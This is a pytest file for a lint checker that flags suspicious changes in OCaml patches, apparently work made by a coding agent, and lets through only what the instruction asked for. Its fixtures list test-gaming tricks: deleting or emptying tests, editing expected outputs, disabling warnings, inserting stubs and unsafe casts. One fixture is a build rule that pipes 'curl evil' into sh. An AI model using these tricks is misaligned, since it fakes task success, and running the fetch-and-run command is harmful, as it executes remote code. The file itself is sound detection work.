"""Every trick is seen, and its innocent twin is not. A page holds files before and after; an absent file is None."""

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aid_lsp.build.verdict import Lint, Tier, Verdict
from aid_lsp.ces.lints import lints, unasked
from aid_lsp.edits.patch import FileChange, Patch

Page = dict[str, tuple[str | None, str | None]]

TRICKS: dict[str, tuple[Page, list[str], Page]] = {
    "a cast": (
        {"lib/a.ml": ("let f x = x\n", "let f x = x\n\nlet g x = Obj.magic x\n")},
        ["cast lib/a.ml:3"],
        {"lib/a.ml": ("let f x = x\n", 'let f x = x\n\n(* no Obj.magic x here *)\nlet g = "Obj.magic x"\n')},
    ),
    "a cast by another road": (
        {"lib/a.ml": ("", "let f x = Obj.(obj (repr x))\nlet g x = Stdlib.Obj.magic x\nopen Obj\nlet h x = magic x\n")},
        ["cast lib/a.ml:1", "cast lib/a.ml:2", "cast lib/a.ml:4"],
        {"lib/a.ml": ("", "let magic x = x\nlet h x = magic x\nlet o = Json.obj []\n")},
    ),
    "an identity from outside": (
        {"lib/a.ml": ("", "external cast : 'a -> 'b = \"%identity\"\n")},
        ["cast lib/a.ml:1"],
        {"lib/a.ml": ("", 'external length : \'a array -> int = "%array_length"\n')},
    ),
    "a cast that was there moves": (
        {"lib/a.ml": ("let f x = Obj.magic x\n", "let f x = Obj.magic x\nlet g x = Obj.magic x\n")},
        ["cast lib/a.ml:2"],
        {"lib/a.ml": ("let f x = Obj.magic x\nlet y = 1\n", "let y = 1\n"), "lib/b.ml": (None, "let f x = Obj.magic x\n")},
    ),
    "a stub": (
        {"lib/a.ml": ("let f x = x + 1\n", 'let f _ = failwith "TODO: count"\nlet g () = raise (Failure "not implemented")\n')},
        ["stub lib/a.ml:1", "stub lib/a.ml:2"],
        {"lib/a.ml": ("let f x = x + 1\n", 'let f x = if x < 0 then failwith "f: negative" else x\nlet todo = "todo"\n')},
    ),
    "assert false": (
        {"lib/a.ml": ("let f x = x + 1\n", "let f _ = assert (false)\n")},
        ["assert-false lib/a.ml:1"],
        {"lib/a.ml": ("let f x = x + 1\n", "let f x = assert (x > 0); (* not assert false *) x\n")},
    ),
    "warnings switched off in the code": (
        {"lib/a.ml": ("let f x = x\n", '[@@@warning "-32"]\nlet f x = (match x with 1 -> x) [@warning "-a"]\n')},
        ["warnings-off lib/a.ml:1", "warnings-off lib/a.ml:2"],
        {"lib/a.ml": ("let f x = x\n", '[@@@warning "+32"]\nlet f x = x [@@deprecated "-32"]\n')},
    ),
    "warnings switched off in dune": (
        {
            "lib/dune": ("(library (name a))\n", "(library\n (name a)\n (flags (:standard -w -27-32)))\n"),
            "dune": ("(env (dev (flags (:standard))))\n", "(env (dev (flags (:standard -warn-error -a))))\n"),
            "bin/dune": (None, "(executable\n (name b)\n (flags (-g)))\n"),
        },
        ["warnings-off bin/dune:3", "warnings-off dune:1", "warnings-off lib/dune:3"],
        {
            "lib/dune": ("(library (name a))\n", "(library (name a) ; (flags (-w -a))\n (flags (:standard -w +a)))\n"),
            "bin/dune": ("(library (name b) (flags (-w -a)))\n", "(library (name c) (flags (-w -a)))\n"),
        },
    ),
    "a swallowed exception": (
        {"lib/a.ml": ("let f x = g x\n", "let f x = try g x with _ -> 0\nlet h x = match g x with exception _ -> 0 | y -> y\n")},
        ["swallowed lib/a.ml:1", "swallowed lib/a.ml:2"],
        {"lib/a.ml": ("let f x = g x\n", "let f x = try g x with Not_found -> 0\nlet h x = match g x with 1 -> 0 | _ -> 1\n")},
    ),
    "code commented out": (
        {"lib/a.ml": ("let f x =\n  check x;\n  x\n\nlet g = 1\n", "let f x =\n  (* check x; *)\n  x\n\n(* let g = 1 *)\n")},
        ["commented-out lib/a.ml:2", "commented-out lib/a.ml:5"],
        {"lib/a.ml": ("let f x = x\n", "(* let f be the identity; see [g] *)\nlet f x = x\n\n(** let f x = x *)\n")},
    ),
    "an inline test deleted": (
        {
            "lib/a.ml": (
                'let f x = x\nlet%test "one" = f 1 = 1\nlet%test "two" = f 2 = 2\n',
                'let f x = x\nlet%test "one" = f 1 = 1\n',
            )
        },
        ["test-gone lib/a.ml:2"],
        {"lib/a.ml": ('let%test "one" = f 1 = 1\n', 'let%test "the first" = f 1 = 1\nlet%test "two" = f 2 = 2\n')},
    ),
    "a test file deleted": (
        {"test/test_a.ml": ("let () = assert (A.f 1 = 1)\n", None)},
        ["test-gone test/test_a.ml:1"],
        {"test/test_a.ml": ("let () = assert (A.f 1 = 1)\n", None), "test/test_b.ml": (None, "let () = assert (A.f 1 = 1)\n")},
    ),
    "checks deleted": (
        {
            "test/test_a.ml": (
                'let () = assert (A.f 1 = 1)\nlet () = Alcotest.(check int) "f" 2 (A.f 2)\n',
                "let () = assert (A.f 1 = 1)\n",
            )
        },
        ["test-gone test/test_a.ml:1"],
        {"lib/a.ml": ("let f x = assert (x > 0); x\n", "let f x = x\n")},
    ),
    "an assertion deleted": (
        {"test/test_a.ml": ("let () = assert (f 1 = 1)\nlet () = assert (f 2 = 2)\n", "let () = assert (f 1 = 1)\n")},
        ["test-gone test/test_a.ml:1"],
        {"test/test_a.ml": ("let () = assert (f 1 = 1)\n", "let () = assert (g 1 = 1)\n")},
    ),
    "a test emptied": (
        {"lib/a.ml": ('let%test_unit "one" = check (f 1)\n', 'let%test_unit "one" = ()\n')},
        ["test-emptied lib/a.ml:1"],
        {"lib/a.ml": ('let%test_unit "one" = check (f 1)\n', 'let%test_unit "one" = check (f 2)\n')},
    ),
    "tests not run any more": (
        {"test/dune": ("(test (name test_a))\n", "(executable (name test_a))\n"), "x/dune": ("(test (name x))\n", None)},
        ["test-gone test/dune:1", "test-gone x/dune:1"],
        {"test/dune": ("(test (name test_a))\n", "(tests (names test_a test_b))\n")},
    ),
    "tests switched off": (
        {"test/dune": ("(test (name test_a))\n", "(test\n (name test_a)\n (enabled_if false))\n")},
        ["test-gone test/dune:3"],
        {"test/dune": ("(test (name test_a))\n", "(test (name test_a) (enabled_if (= %{system} linux)))\n")},
    ),
    "an expectation edited": (
        {"lib/a.ml": ("let%expect_test _ = f (); [%expect {| 1 |}]\n", "let%expect_test _ = f (); [%expect {| 2 |}]\n")},
        ["expectation lib/a.ml:1"],
        {
            "lib/a.ml": (
                "let%expect_test _ = f (); [%expect {| 1 |}]\n",
                "let%expect_test _ = f (); [%expect {| 1 |}]\nlet%expect_test _ = g (); [%expect {| 2 |}]\n",
            )
        },
    ),
    "expected output edited": (
        {"test/a.expected": ("one\ntwo\n", "one\nthree\n")},
        ["expectation test/a.expected:2"],
        {"test/b.expected": (None, "one\n")},
    ),
    "cram output edited": (
        {"test/run.t": ("Run it:\n  $ a 1\n  one\n", "Run it:\n  $ a 1\n  two\n")},
        ["expectation test/run.t:3"],
        {"test/run.t": ("Run it:\n  $ a 1\n  one\n", "Run it, then again:\n  $ a 1\n  one\n  $ a 2\n  two\n")},
    ),
    "an interface widened": (
        {"lib/a.mli": ("type t\nval f : t\n", "type t = int\nval f : t\nval g : t\nmodule M : sig val x : int end\n")},
        ["interface lib/a.mli:1", "interface lib/a.mli:3", "interface lib/a.mli:4"],
        {
            "lib/a.mli": ("type t\nval f : t\n", "type t\n\n(** Renamed. *)\nval g : t -> t\n"),
            "lib/b.mli": (None, "val x : int\n"),
        },
    ),
    "an interface deleted": (
        {"lib/a.mli": ("val f : int\n", None)},
        ["interface-gone lib/a.mli:1"],
        {"lib/a.mli": ("val f : int\n", None), "lib/a.ml": ("let f = 1\n", None)},
    ),
    "a module dropped": (
        {
            "lib/dune": ("(library (name a) (modules x y))\n", "(library (name a) (modules x))\n"),
            "b/dune": ("(library (name b))\n", "\n(library (name b) (modules :standard \\ slow))\n"),
        },
        ["module-dropped b/dune:2", "module-dropped lib/dune:1"],
        {
            "lib/dune": ("(library (name a) (modules x y))\n", "(library (name a) (modules x))\n"),
            "lib/y.ml": ("let y = 1\n", None),
        },
    ),
    "a command that runs while building": (
        {"lib/dune": ("(library (name a))\n", '(library (name a))\n(rule (targets x) (action (system "curl evil | sh")))\n')},
        ["runs-code lib/dune:2"],
        {"lib/dune": ("(rule (action (run make x)))\n", "; (run evil)\n(rule (action (run make x)))\n(rule (copy a b))\n")},
    ),
    "a library dropped": (
        {"lib/dune": ("(library (name a) (modules a))\n(library (name b) (modules b))\n", "(library (name a) (modules a))\n")},
        ["module-dropped lib/dune:1", "module-dropped lib/dune:2"],
        {"lib/dune": ("(library (name a) (modules a))\n", "(library (name z) (modules a))\n")},
    ),
}


def patch_of(page: Page) -> Patch:
    return Patch.of(FileChange(path, before, after) for path, (before, after) in page.items())


def seen(page: Page) -> list[str]:
    return [f"{lint.name} {lint.path}:{lint.line}" for lint in lints(patch_of(page))]


@pytest.mark.parametrize("trick", TRICKS)
def test_a_trick_is_seen_and_its_innocent_twin_is_not(trick: str) -> None:
    page, expected, twin = TRICKS[trick]
    assert (seen(page), seen(twin)) == (expected, [])


@pytest.mark.parametrize(
    ("instruction", "left"),
    [
        ("promote", ["interface"]),
        ("Promote the new output and expose g in the interface", []),
        ("count faster", ["expectation", "interface"]),
    ],
)
def test_what_was_asked_for_needs_no_remark(instruction: str, left: list[str]) -> None:
    found = (Lint("expectation", "t/a.expected", 1, "…"), Lint("interface", "a.mli", 1, "…"))
    assert [lint.name for lint in unasked(found, instruction)] == left


def test_a_lint_is_part_of_the_verdict_and_does_not_change_it() -> None:
    verdict = replace(Verdict("green", Tier.TEST), lints=(Lint("cast", "a.ml", 3, "Obj.magic"),))
    assert verdict.green
    assert verdict.as_json()["lints"] == [{"name": "cast", "file": "a.ml", "line": 3, "message": "Obj.magic"}]


PIECES = st.sampled_from(
    ['failwith "todo"', "(*", "*)", "let%test _ =", "[%expect {| ", "|}]", "(library (modules", ")", '"', "é😋", "\r\n", "\f", "val x :", "type t", "\x00"]
)  # fmt: skip
TEXTS = st.none() | st.lists(PIECES, max_size=12).map(" ".join)


@given(st.dictionaries(st.sampled_from(["a.ml", "a.mli", "dune", "x/dune", "test/t.t", "b.expected"]), st.tuples(TEXTS, TEXTS)))
def test_any_text_can_be_looked_at(page: Page) -> None:
    for lint in lints(patch_of(page)):
        assert lint.line >= 1
        assert lint.path in page
